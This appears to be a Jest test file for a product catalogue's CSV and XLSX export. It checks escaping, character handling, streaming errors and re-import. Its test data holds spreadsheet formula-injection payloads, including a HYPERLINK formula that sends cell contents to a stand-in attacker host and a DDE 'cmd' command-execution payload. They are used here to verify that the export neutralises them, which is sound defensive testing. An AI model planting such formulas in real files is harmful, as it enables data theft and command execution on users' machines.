import { Readable } from 'node:stream';
import { beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { fromBufferPromise } from 'yauzl';
import { changed, sql } from '../../src/core/sql.ts';
import { openXlsx } from '../../src/services/catalog/imports/reading/open-xlsx.ts';
import { all } from '../support/all.ts';
import { addItems } from '../support/catalog.ts';
import { eventually } from '../support/eventually.ts';
import { useTestApp } from '../support/test-app.ts';
import { importCatalogue, jobEnd, newProject, newShop, type Shop } from '../support/shop.ts';
import { DEBUG, ERROR, logLines } from './log-lines.ts';

const testApp = useTestApp();
/** Far more than sockets buffer, even when compressed. */
const ITEMS = 10_000;
let shop: Shop;
let large: string;

beforeAll(async () => {
  shop = await newShop(testApp);
  large = (await newProject(testApp, shop)).projectId;
  // Digests cannot be compressed.
  await changed(
    testApp.ctx().em,
    sql`insert into content_items (id, project_id, external_id, item_type, source_data, generated_content, metadata, generation_metadata, pushed, created_at, updated_at)
        select gen_random_uuid(), ${large}, n, 'product', jsonb_build_object('title', 'Item ' || n),
               jsonb_build_object('description', (select string_agg(md5(n || '-' || m), '') from generate_series(1, 40) m)), '{}', '{}', '{}', now(), now()
          from generate_series(1, ${ITEMS}::int) n`,
  );
});

async function projectOf(texts: string[]): Promise<string> {
  const { body } = await shop.rest.post('/projects', { name: 'Texts' });
  await addItems(
    testApp,
    body.id,
    texts.map((text, n) => ({
      externalId: `item-${n}`,
      sourceData: { title: text },
      generatedContent: { name: text, tags: [text], attributes: { [text]: text } },
    })),
  );
  return body.id;
}

async function bytesOf(id: string, format: string): Promise<Buffer> {
  const response = await shop.rest.open('GET', `/projects/${id}/export?format=${format}`);
  return Buffer.from(await response.arrayBuffer());
}

/** The titles in an exported workbook. */
async function titlesOf(bytes: Buffer): Promise<(string | undefined)[]> {
  const { columns, rows } = await openXlsx(Readable.from([bytes]));
  return (await all(rows)).flat().map(({ cells }) => cells[columns.indexOf('title')]);
}

/** The XML of the exported sheet. */
async function sheetOf(id: string): Promise<string> {
  const zip = await fromBufferPromise(await bytesOf(id, 'xlsx'));
  for await (const entry of zip.eachEntry()) {
    if (entry.fileName === 'xl/worksheets/sheet1.xml')
      return Buffer.concat(await all(await zip.openReadStreamPromise(entry))).toString();
  }
  throw new Error('no sheet');
}

const FORMULAS = [
  '=1+1',
  '+1',
  '-1+2',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A',
  '=HYPERLINK("http://evil.example?"&A1,"x")',
  "=cmd|' /C calc'!A0",
];

describe('exported texts that look like formulas', () => {
  it('have an apostrophe before them in CSV, in every column', async () => {
    const rows: Record<string, string>[] = parse(await bytesOf(await projectOf(FORMULAS), 'csv'), {
      bom: true,
      columns: true,
      record_delimiter: '\r\n',
    });
    expect(rows.map((row) => [row['title'], row['name']])).toEqual(FORMULAS.map((text) => [`'${text}`, `'${text}`]));
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
  });

  it('are stored as texts in XLSX', async () => {
    const id = await projectOf(FORMULAS);
    const sheet = await sheetOf(id);
    expect(sheet).not.toMatch(/<(\w+:)?f[\s>/]/);
    const types = [...sheet.matchAll(/<c ([^>]*)>/g)].map(([, attributes]) => /t="(\w+)"/.exec(attributes!)?.[1]);
    expect(new Set(types)).toEqual(new Set(['inlineStr']));
    expect(await titlesOf(await bytesOf(id, 'xlsx'))).toEqual(FORMULAS);
  });
});

it('an exported workbook contains all texts unchanged, except for what Excel cannot store', async () => {
  const texts = [
    '<b>&amp;</b> ]]>',
    'a\u0001\u0008\u001Fb',
    'line\r\nline\ttab',
    '_x000D_ and _x0041_',
    ' blank ',
    '🪑 größe',
    '\uFFFE\uFFFF',
    'x'.repeat(32_767),
    'y'.repeat(40_000),
  ];
  const found = await titlesOf(await bytesOf(await projectOf(texts), 'xlsx'));
  expect(found.slice(0, 7)).toEqual([...texts.slice(0, 6), '\uFFFD\uFFFD']);
  expect(found.slice(7).map((text) => [text?.length, text?.at(-1)])).toEqual([
    [32_767, 'x'],
    [32_767, '…'],
  ]);
});

describe.each(['csv', 'xlsx'])('an export as %s', (format) => {
  const path = () => `/projects/${large}/export?format=${format}`;

  it('stops reading when the client disconnects', async () => {
    const lines = logLines(testApp);
    const gone = new AbortController();
    const response = await shop.rest.open(
      'GET',
      path(),
      undefined,
      { 'x-request-id': `disconnected-${format}` },
      gone.signal,
    );
    await response.body!.getReader().read();
    gone.abort();
    await eventually(() => lines.some((line) => line.requestId === `disconnected-${format}`));
    expect(lines.filter((line) => line.requestId === `disconnected-${format}`)).toMatchObject([
      { level: DEBUG, event: 'response.aborted' },
    ]);
  });

  it('cuts the connection on an error in the middle, so that it is not taken for complete', async () => {
    const lines = logLines(testApp);
    const { em } = testApp.ctx();
    const response = await shop.rest.open('GET', path(), undefined, { 'x-request-id': `broken-${format}` });
    const reader = response.body!.getReader();
    await reader.read();
    await changed(em, sql`alter table content_items rename to gone`);
    try {
      const rest = async (): Promise<void> => {
        while (!(await reader.read()).done);
      };
      await expect(rest()).rejects.toThrow('terminated');
    } finally {
      await changed(em, sql`alter table gone rename to content_items`);
    }
    expect(lines.filter((line) => line.requestId === `broken-${format}`)).toMatchObject([
      { level: ERROR, code: 'INTERNAL' },
    ]);
  });

  it('responds with the documented error when it fails at the start', async () => {
    const { em } = testApp.ctx();
    await changed(em, sql`alter table content_items rename to gone`);
    const { status, body, headers } = await shop.rest
      .get(path())
      .finally(() => changed(em, sql`alter table gone rename to content_items`));
    expect({ status, body, file: headers.get('content-disposition') }).toEqual({
      status: 500,
      body: { detail: 'Internal server error', code: 'INTERNAL' },
      file: null,
    });
  });
});

describe('an export that is imported again', () => {
  const listed = async (projectId: string) => {
    const { body } = await shop.rest.get(`/projects/${projectId}/items`);
    return body.map((item: Record<string, Record<string, unknown>>) => [
      item['external_id'],
      item['item_type'],
      item['metadata']!['parent_external_id'],
      item['source_data']!['title'],
      item['source_data']!['price'],
    ]);
  };

  it.each(['csv', 'xlsx'])('creates the same products and variants (%s)', async (format) => {
    const { projectId } = await newProject(testApp, shop);
    await importCatalogue(shop, projectId);
    const known = await listed(projectId);
    expect(known.length).toBeGreaterThan(5);

    const { projectId: other } = await newProject(testApp, shop);
    const source = await shop.rest.upload(
      `/projects/${other}/data-sources/upload`,
      `export.${format}`,
      await bytesOf(projectId, format),
    );
    expect(source).toMatchObject({
      status: 201,
      body: {
        source_type: format,
        suggested_mapping: { external_id: 'external_id', title: 'title', parent_external_id: 'parent_external_id' },
      },
    });
    const { body } = await shop.rest.post(`/projects/${other}/data-sources/${source.body.id}/import`);
    expect(await jobEnd(shop, body.job_id)).toMatchObject({ status: 'completed', result: { failed: 0 } });
    expect(await listed(other)).toEqual(known);
  });
});
